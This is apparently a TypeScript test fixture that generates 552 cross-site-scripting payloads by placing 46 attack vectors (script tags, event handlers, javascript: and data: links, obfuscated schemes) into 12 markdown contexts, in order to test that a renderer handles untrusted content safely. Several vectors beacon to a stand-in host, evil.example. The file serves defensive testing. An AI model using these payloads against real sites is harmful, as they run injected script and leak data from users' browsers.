/**
 * Hostile questions for the untrusted-content suite: every attack vector below placed in
 * every markdown context, so a renderer that is safe for `<script>` on its own line but not
 * inside a table cell, a heading or after a zero-width space is caught. A payload that runs
 * calls `__xss()` (the page's trap) or `alert()` (a dialog the test counts); a payload that
 * leaks makes a request to an outside host (`evil.example`), which the test counts as well.
 */

/** The outside host every beacon points at; nothing on loopback ever answers to it. */
export const OUTSIDE_HOST = "evil.example";

const BEACON = `http://${OUTSIDE_HOST}`;

/** Attack vectors; `ACT` is replaced by the code a successful payload would run. */
const VECTORS: readonly string[] = [
  "<script>ACT</script>",
  "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
  '<img src=x onerror="ACT">',
  "<img src=x onerror=ACT//",
  `<img src="${BEACON}/x.png">`,
  `<img srcset="${BEACON}/s.png 1x">`,
  `<picture><source srcset=${BEACON}/p.png><img></picture>`,
  "<svg onload=ACT>",
  "<svg><script>ACT</script></svg>",
  '<svg><a xlink:href="javascript:ACT"><text>x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=ACT>",
  '<iframe src="javascript:ACT"></iframe>',
  '<iframe srcdoc="<script>ACT</script>"></iframe>',
  `<object data="${BEACON}/o.swf"></object>`,
  `<embed src="${BEACON}/e.swf">`,
  '<meta http-equiv="refresh" content="0;url=javascript:ACT">',
  `<link rel=stylesheet href=${BEACON}/x.css>`,
  `<style>@import '${BEACON}/i.css';</style>`,
  `<div style="background:url(${BEACON}/bg.png)">styled</div>`,
  '<div style="width:expression(ACT)">css expression</div>',
  `<base href="${BEACON}/">`,
  `<form action="${BEACON}"><button>go</button></form>`,
  "<details open ontoggle=ACT>",
  "<input autofocus onfocus=ACT>",
  "<video><source onerror=ACT></video>",
  "<body onload=ACT>",
  '<a href="javascript:ACT">click</a>',
  '<a href="&#106;avascript:ACT">entity href</a>',
  '"><script>ACT</script>',
  "<scr<script>ipt>ACT</script>",
  '<noscript><p title="</noscript><img src=x onerror=ACT>">',
  "&lt;script&gt;ACT&lt;/script&gt;",
  "[click](javascript:ACT)",
  "[click](JaVaScRiPt:ACT)",
  "[click](  javascript:ACT  )",
  "[click](&#x6A;avascript:ACT)",
  "[click](java\u200Bscript:ACT)",
  "[click](data:text/html,<script>ACT</script>)",
  "[click](data:image/svg+xml,<svg onload=ACT>)",
  "[click](vbscript:msgbox(1))",
  `![beacon](${BEACON}/x.png)`,
  `![beacon](${BEACON}/t.png "title")`,
  `[![nested](${BEACON}/n.png)](${BEACON})`,
  `<${BEACON}/autolink>`,
  "[ref]\n\n[ref]: javascript:ACT",
  `![img][beacon]\n\n[beacon]: ${BEACON}/ref.png`,
];

/** Markdown contexts a vector is placed in; `V` is replaced by the vector. */
const CONTEXTS: readonly string[] = [
  "V",
  "Please review this: V",
  "# V",
  "> V",
  "- V",
  "| a |\n| --- |\n| V |",
  "**V**",
  "`V`",
  "\u200BV\u200B",
  "\u202EV",
  "[V](https://example.com)",
  "V<!-- trailing comment",
];

/** What a successful payload runs: alternately the trap and a dialog. */
const ACTIONS = ["__xss()", "alert(1)"] as const;

/** A payload: its number (shown in the card so failures can be traced) and its markdown. */
export interface XssPayload {
  id: number;
  markdown: string;
}

/** The corpus: every vector in every context (46 × 12 = 552 payloads). */
export function xssCorpus(): XssPayload[] {
  return CONTEXTS.flatMap((context) => VECTORS.map((vector) => ({ context, vector }))).map(
    ({ context, vector }, id) => {
      const action = ACTIONS[id % ACTIONS.length] ?? ACTIONS[0];
      const attack = context.replace("V", () => vector.replaceAll("ACT", action));
      return { id, markdown: `${attack}\n\npayload ${id}` };
    },
  );
}

/** Splits `items` into consecutive pages of at most `size`. */
export function pagesOf<T>(items: readonly T[], size: number): T[][] {
  const pages: T[][] = [];
  for (let start = 0; start < items.length; start += size) {
    pages.push(items.slice(start, start + size));
  }
  return pages;
}
